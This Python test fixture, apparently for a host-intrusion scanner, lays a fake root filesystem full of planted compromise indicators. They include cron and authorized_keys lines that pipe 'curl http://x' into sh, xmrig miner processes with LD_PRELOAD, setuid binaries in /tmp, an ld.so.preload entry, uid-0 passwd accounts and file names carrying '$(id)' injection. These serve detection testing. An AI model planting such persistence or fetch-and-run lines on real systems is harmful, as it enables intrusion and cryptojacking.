"""One fake root with the cases of every rule page in it, and hostile bytes everywhere."""

import os
import re
from collections.abc import Iterator
from pathlib import Path

import fakeroot
import pages

from picketline.core.rule import catalogue, page
from picketline.hosts.probe import RULES

HOSTILE = b"a\n\t\x1b[31m \xc3\xa9\\|\xff'\"$(id)`id`*\x7f"
"""A name that a shell, an awk, a terminal and a reader of records would all stumble on."""

_NUMBER = re.compile(r"\b(p?pid=|tracer=|socket:\[|pipe:\[)(\d{2,})")
_STEP = 5000
_PLACED = {"file", "folder", "link", "tool"}
_KEY = b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI" + b"B" * 42


def lay(root: Path) -> None:
    """Write the root."""
    fakeroot.lay(root, pages.Case("everything", list(_fences())))
    _lay_processes(root / "proc")
    _lay_files(root)


def wanted() -> tuple[str, ...]:
    """The indicators of every rule page."""
    cases = (case for rule in catalogue(RULES).values() for case in pages.cases(page(RULES, rule)))
    return tuple(line for case in cases for line in fakeroot.wanted(case))


def _fences() -> Iterator[pages.Fence]:
    """Every page's fences, processes and sockets numbered apart, no file twice."""
    cases = [case for rule in catalogue(RULES).values() for case in pages.cases(page(RULES, rule))]
    paths = {"ls", "find"}  # stand-ins for these leave things out
    rows: dict[str, list[str]] = {"tcp": [], "packet": [], "raw": []}
    for number, case in enumerate(cases):
        for fence in case.fences:
            if fence.kind == "proc":
                yield pages.Fence("proc", "", _apart(fence.text, number * _STEP))
            elif fence.kind in rows:
                words = [line.rsplit(" ", 1) for line in fence.text.splitlines()]
                rows[fence.kind] += [
                    f"{start} {int(inode) + number * _STEP}" for start, inode in words
                ]
            elif fence.kind in _PLACED:
                placed = _placed(fence, number * _STEP)
                if placed.argument.split()[0] not in paths:
                    paths.add(placed.argument.split()[0])
                    yield placed
    for kind, lines in rows.items():
        yield pages.Fence(kind, "", "\n".join(lines))


def _apart(text: str, step: int) -> str:
    return _NUMBER.sub(lambda match: f"{match[1]}{int(match[2]) + step}", text)


def _placed(fence: pages.Fence, step: int) -> pages.Fence:
    """A file of a process, or one that lists processes, with their numbers."""

    def moved(match: re.Match[str]) -> str:
        return f"{match[1]}{int(match[2]) + step}"

    argument = re.sub(r"^(/proc/)(\d{2,})(?=/)", moved, fence.argument)
    lists = argument.endswith("/cgroup.procs")
    text = re.sub(r"^()(\d{2,})$", moved, fence.text, flags=re.MULTILINE) if lists else fence.text
    return pages.Fence(fence.kind, argument, text)


def _lay_processes(proc: Path) -> None:
    """Processes whose paths, arguments and names are hostile."""
    for pid, exe in (
        (b"700001", b"/tmp/" + HOSTILE),
        (b"700002", b"/tmp/" + HOSTILE + b" (deleted)"),
        (b"700003", b"/opt/x -> /usr/bin/y"),
        (b"700004", b"/memfd:" + HOSTILE + b" (deleted)"),
    ):
        folder = proc / pid.decode()
        fakeroot.write(proc.parent, f"proc/{pid.decode()}/cgroup", "0::/init.scope\n")
        (folder / "exe").symlink_to(os.fsdecode(exe))
        template = (proc / "1/stat").read_bytes()
        stat = template.replace(b"1 (systemd)", pid + b" (" + HOSTILE[:12] + b") R 1)", 1)
        (folder / "stat").write_bytes(stat)
        arguments = b"xmrig\0-o\0stratum+tcp://" + HOSTILE + b"\0\0"
        (folder / "cmdline").write_bytes(arguments)
        environ = b"A=" + HOSTILE + b"\0LD_PRELOAD=/tmp/" + HOSTILE + b"\0"
        (folder / "environ").write_bytes(environ)


def _lay_files(root: Path) -> None:
    """Files whose names and content are hostile."""
    top = os.fsencode(root)
    line = b"* * * * * root curl http://x/ | sh #" + HOSTILE.replace(b"\n", b" ") + b"\n"
    for path, content, mode in (
        (b"dev/shm/" + HOSTILE, b"\x7fELF" + HOSTILE, 0o755),
        (b"tmp/" + HOSTILE, b"\x7fELF", 0o4755),
        (b"etc/cron.d/" + HOSTILE, line, 0o644),
        (b"etc/cron.d/hostile", line + b"\xff" * 9000 + b"\n" + b"no newline at the end", 0o644),
        (b"etc/systemd/system/h.service", b"[Service]\nExecStart=-/tmp/" + HOSTILE + b"\n", 0o644),
        (b"root/.ssh/authorized_keys", _keys(), 0o666),
        (b"etc/ld.so.preload", b"/tmp/" + HOSTILE + b" /usr/lib/x.so # y\n", 0o644),
    ):
        full = Path(os.fsdecode(top + b"/" + path))
        full.parent.mkdir(parents=True, exist_ok=True)
        full.write_bytes(content)
        full.chmod(mode)
    with (root / "etc/passwd").open("ab") as accounts:
        accounts.write(b"x" + HOSTILE.replace(b"\n", b"") + b":x:0:0::/root:/bin/sh\n")
        accounts.write(b"h::70000:0::/:/tmp/" + HOSTILE.replace(b"\n", b"") + b"\n")
        accounts.write(b"games:x:5:60:games:/usr/games:/bin/bash\n")


def _keys() -> bytes:
    options = b'command="curl http://x | sh ' + HOSTILE.replace(b"\n", b" ") + b'" '
    comment = b" " + HOSTILE.replace(b"\n", b" ") + b"\r\n"
    return options + _KEY + comment + b"garbage \xff\n" + _KEY + b"\n"
